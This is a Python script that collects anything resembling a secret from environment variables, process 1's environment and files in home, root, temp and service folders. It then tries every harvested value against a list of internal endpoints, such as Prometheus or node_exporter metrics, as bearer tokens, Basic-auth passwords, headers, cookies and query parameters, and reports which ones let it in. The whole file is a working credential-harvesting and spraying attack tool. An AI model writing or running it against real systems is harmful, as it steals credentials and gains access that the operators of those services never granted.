"""Try secrets at endpoints in every way in which one is shown. Standard library only: it runs in containers, too.

As a program, `python3 - '[["GET", "http://10.0.0.1:8082/metrics"], …]' [SECRET …]` on stdin takes everything that it finds around itself for a
secret as well, and prints as JSON what it tried, how many endpoints answer at all, and each that let it in, with how.
"""

import base64
import contextlib
import http.client
import json
import os
import re
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import quote, urlsplit

USERS = ("manager", "prometheus")  # who has a password at Prometheus or node_exporter
REFUSED = (401, 403)
SECRET = re.compile(rb"[A-Za-z0-9._~+/=-]{16,}")
LARGEST = 64 * 1024  # of a file that is looked into
AROUND = ("/home", "/root", "/run", "/tmp", "/srv", "/mnt", "/etc/shiva")
SECONDS = 5.0


def ways(secret: str) -> Iterator[tuple[str, dict[str, str], str]]:
    """Yield each way of showing a secret: its name, headers, and a query."""
    yield "bearer", {"Authorization": f"Bearer {secret}"}, ""
    for user in USERS:
        login = base64.b64encode(f"{user}:{secret}".encode()).decode()
        yield f"password of {user}", {"Authorization": f"Basic {login}"}, ""
    elsewhere = {"Authorization": f"token {secret}", "X-Shiva-Identity": secret, "Cookie": f"token={secret}"}
    yield "elsewhere", elsewhere, f"token={quote(secret, safe='')}&access_token={quote(secret, safe='')}"


def status(method: str, url: str, headers: dict[str, str], query: str = "") -> int:
    """Return what is answered to an empty JSON object; 0 when nobody answers."""
    parts = urlsplit(url)
    path = "?".join(filter(None, (parts.path, "&".join(filter(None, (parts.query, query))))))
    body = None if method == "GET" else b"{}"
    kind = {} if body is None else {"Content-Type": "application/json"}
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=SECONDS)
    with contextlib.closing(connection), contextlib.suppress(OSError, http.client.HTTPException):
        connection.request(method, path, body, headers | kind)
        return connection.getresponse().status
    return 0


def found() -> set[str]:
    """Return everything around this process that could be a secret: its environment's, process 1's, and in files."""
    texts = [value.encode() for value in os.environ.values()]
    files = [Path("/proc/1/environ"), *(file for folder in AROUND for file in Path(folder).rglob("*"))]
    for file in files:
        with contextlib.suppress(OSError):
            if file.is_file() and file.stat().st_size <= LARGEST:
                texts.append(file.read_bytes())
    return {each.decode() for text in texts for each in SECRET.findall(text)}


def main() -> None:
    """Try all at all that answers."""
    secrets = found() | set(sys.argv[2:])
    endpoints = [(str(method), str(url)) for method, url in json.loads(sys.argv[1])]
    with ThreadPoolExecutor(len(endpoints)) as pool:
        first = dict(zip(endpoints, pool.map(lambda each: status(each[0], each[1], {}), endpoints), strict=True))
    answering = [each for each, answered in first.items() if answered]
    opened = {(method, url, "nothing") for (method, url), answered in first.items() if 200 <= answered < 400}
    for how, headers, query in (way for secret in secrets for way in ways(secret)):
        opened |= {(method, url, how) for method, url in answering if 200 <= status(method, url, headers, query) < 400}
    print(json.dumps({"found": sorted(secrets), "answering": len(answering), "opened": sorted(opened)}))


if __name__ == "__main__":
    main()
